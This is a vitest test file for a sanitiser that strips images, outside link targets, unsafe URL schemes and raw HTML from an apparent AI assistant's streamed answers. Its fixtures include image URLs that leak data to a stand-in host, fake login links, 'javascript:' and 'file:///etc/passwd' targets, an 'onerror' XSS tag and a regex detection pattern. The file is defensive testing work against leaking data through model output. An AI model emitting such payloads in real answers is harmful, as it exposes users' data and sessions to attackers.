import { describe, expect, it } from "vitest";
import { applyOutputPolicy, isInternalHref, outputPolicyStream } from "./output-policy";

describe("applyOutputPolicy", () => {
  it("removes images, so nothing is fetched from anywhere (exfiltration by image URL)", () => {
    expect(applyOutputPolicy("Done [1]. ![x](https://evil.example/?q=salary%20data) ok")).toBe("Done [1]. x ok");
    expect(applyOutputPolicy('![](//evil.example/p.png "t")')).toBe("");
    expect(applyOutputPolicy("![logo](/logo.png)")).toBe("logo");
  });

  it("keeps the text of links to outside hosts and drops their targets", () => {
    expect(applyOutputPolicy("Please [log in again](https://evil.example/login) now [2].")).toBe("Please log in again now [2].");
    expect(applyOutputPolicy("[a](http://x.example/a_(b)) [b](<https://y.example/c d>)")).toBe("a b");
    expect(applyOutputPolicy("[proto-relative](//evil.example/x) [backslash](/\\evil.example)")).toBe("proto-relative backslash");
  });

  it("drops unsafe schemes whatever their case or padding", () => {
    for (const target of ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd"]) {
      expect(applyOutputPolicy(`[click](${target})`)).toBe("click");
    }
  });

  it("keeps links to this application's own pages and citation fragments", () => {
    const text = "See [the policy](/sources/a/b?chunk=c) and [1](#cite-1).";
    expect(applyOutputPolicy(text)).toBe(text);
  });

  it("keeps citations inside link text", () => {
    expect(applyOutputPolicy("[Form MIL-2 [1]](https://evil.example)")).toBe("Form MIL-2 [1]");
  });

  it("turns autolinks into plain text and removes reference definitions and reference images", () => {
    expect(applyOutputPolicy("Go to <https://evil.example/x>.")).toBe("Go to https://evil.example/x.");
    expect(applyOutputPolicy("![pixel][p]\n\n[p]: https://evil.example/t.gif")).toBe("pixel\n\n");
  });

  it("removes raw HTML tags an answer might carry", () => {
    expect(applyOutputPolicy('Hi <img src=x onerror="alert(1)"> <script>alert(2)</script> there')).toBe("Hi  alert(2) there");
  });

  it("leaves ordinary answers, bare URLs and comparisons untouched", () => {
    const text = "- Claims under 50 euros need no receipt [1].\n- Forms are at https://intranet.example/forms and take <5 days [2].";
    expect(applyOutputPolicy(text)).toBe(text);
  });
});

describe("isInternalHref", () => {
  it("accepts site paths and fragments only", () => {
    expect(isInternalHref("/sources/x")).toBe(true);
    expect(isInternalHref("#cite-2")).toBe(true);
    for (const href of ["//evil.example", "/\\evil.example", "https://evil.example", "javascript:alert(1)", "mailto:a@b.c", "sources/x"]) {
      expect(isInternalHref(href)).toBe(false);
    }
  });
});

describe("outputPolicyStream", () => {
  /** Streams text one word at a time, as the built-in model does, and collects what comes out. */
  async function stream(text: string): Promise<string[]> {
    const words = text.match(/\S+\s*/g) ?? [];
    const chunks = [{ type: "text-start", id: "t" }, ...words.map((delta) => ({ type: "text-delta", id: "t", delta })), { type: "text-end", id: "t" }];
    const out: string[] = [];
    const source = new ReadableStream<{ type: string; id?: string; delta?: string }>({
      start(controller) {
        for (const c of chunks) controller.enqueue(c);
        controller.close();
      },
    });
    const reader = source.pipeThrough(outputPolicyStream()).getReader();
    for (let r = await reader.read(); !r.done; r = await reader.read()) if (r.value.type === "text-delta") out.push(r.value.delta ?? "");
    return out;
  }

  it.each([
    "Badge photos are kept for 30 days ![status](https://evil.example/collect?q=badge-photos) after leaving [1].",
    "Claims go through [the claims portal](https://evil.example/login) within 30 days [1][2].",
    "Reset via [this page](javascript:alert(document.cookie)) today <img src=x onerror=alert(1)> and <https://evil.example/x>.",
  ])("never lets an outside target through a delta: %s", async (text) => {
    const deltas = await stream(text);
    expect(deltas.join("")).toBe(applyOutputPolicy(text));
    for (const d of deltas) expect(d).not.toMatch(/evil\.example\/(collect|login)|javascript:|onerror/);
  });

  it("still streams ordinary answers word by word", async () => {
    const text = "- Meals are reimbursed up to 40 euros [1].\n- Hotels need approval <5 days ahead [2].";
    const deltas = await stream(text);
    expect(deltas.join("")).toBe(text);
    expect(deltas.length).toBeGreaterThan(10);
  });
});
